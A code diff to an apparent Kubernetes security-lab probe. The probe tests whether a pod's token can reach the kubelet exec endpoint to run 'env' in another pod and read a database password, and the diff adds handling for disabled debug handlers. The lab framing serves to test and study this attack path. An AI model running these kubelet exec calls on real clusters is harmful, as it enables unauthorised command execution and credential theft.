@@ -20,8 +20,13 @@ from labkit.model.credentials import client_credential
 from labkit.model.decision import ALLOWED, Action, decide_at_kubelet
 from labkit.model.rights import bearer_at_kubelet
 from labkit.model.workloads import token_caller, token_in
-from labkit.techniques._lib.api.kubelet import CHANNEL, retry_unknown_pod
-from labkit.techniques._lib.machines.pod import find_pod, token_of
+from labkit.techniques._lib.api.kubelet import (
+    CHANNEL,
+    as_apiserver,
+    retry_unknown_pod,
+    runs_commands,
+)
+from labkit.techniques._lib.machines.pod import find_pod, token_of, without_token
 from labkit.techniques._lib.machines.reach import address_in_lab, run
 from labkit.techniques._lib.stores.secret import true_secret
 from labkit.techniques._lib.technique import POD, SECRETS, Prediction, Technique, all_of, holds
@@ -39,7 +44,8 @@ KUBELET = "kubelet@worker1"
 WANTED = ("shop", "db-credentials", "password")
 PATH = "/exec/shop/web/web?command=env&output=1&error=1"
 ACTION = Action("get", "nodes/proxy", name="worker1")
-SWITCHING, REFUSED = 101, (401, 403)
+#: 405 if the handlers for debugging are off.
+SWITCHING, REFUSED, OFF = 101, (401, 403), 405
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
@@ -50,7 +56,8 @@ def predict(model: Model, foothold: Foothold) -> Prediction:
         return Prediction(False, (str(token_in(env, *AGENT)),))
     caller = bearer_at_kubelet(env, kubelet, agent)
     found = decide_at_kubelet(env, kubelet, caller, ACTION)
-    return all_of(Prediction(True, (str(caller.claim),)), holds(found.claim, ALLOWED))
+    known = Prediction(True, (str(caller.claim),))
+    return all_of(known, holds(found.claim, ALLOWED), runs_commands(kubelet))
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
@@ -64,7 +71,7 @@ def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
     pod = find_pod(lab, *AGENT)
     token = token_of(lab, pod)
     if token is None:
-        raise ProbeError("the agent's pod has no token, although its manifest asks for one")
+        return without_token(lab, TECHNIQUE.name, foothold, *AGENT)
 
     def call(node: str, prefix: list[str], bearer: str, *pair: str) -> dict[str, Any]:
         where = [address_in_lab(lab, "worker1"), str(channel.port), PATH]
@@ -75,7 +82,7 @@ def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
             error = ProbeTimeout if "TimeoutError" in output.error else ProbeError
             raise error(f"{TECHNIQUE.name}: no answer to the handshake", evidence=last)
         said: dict[str, Any] = json.loads(output.stdout)
-        if said["status"] not in (SWITCHING, *REFUSED):
+        if said["status"] not in (SWITCHING, *REFUSED, OFF):
             raise ProbeError(f"{TECHNIQUE.name}: HTTP {said['status']}", evidence=[said["body"]])
         if said["status"] == SWITCHING and not secret.found_in(base64.b64decode(said["output"])):
             raise ProbeError(
@@ -92,9 +99,13 @@ def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
     if credential is None:
         raise ProbeError("the apiserver has no client certificate for the kubelets")
     node = channel.client_node
-    if call(node, [], "", credential.certificate, credential.key)["status"] != SWITCHING:
+    status = call(node, [], "", credential.certificate, credential.key)["status"]
+    if status not in (SWITCHING, OFF):
         raise ProbeError("positive control: the kubelet refuses the apiserver, too")
     control = "with the apiserver's certificate, the same WebSocket runs the command"
+    if status == OFF:
+        as_apiserver(lab, "GET", "/pods")
+        control = "with the apiserver's certificate, it lists its pods; it runs commands for nobody"
     reason = f"HTTP {said['status']}"
     return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)
 
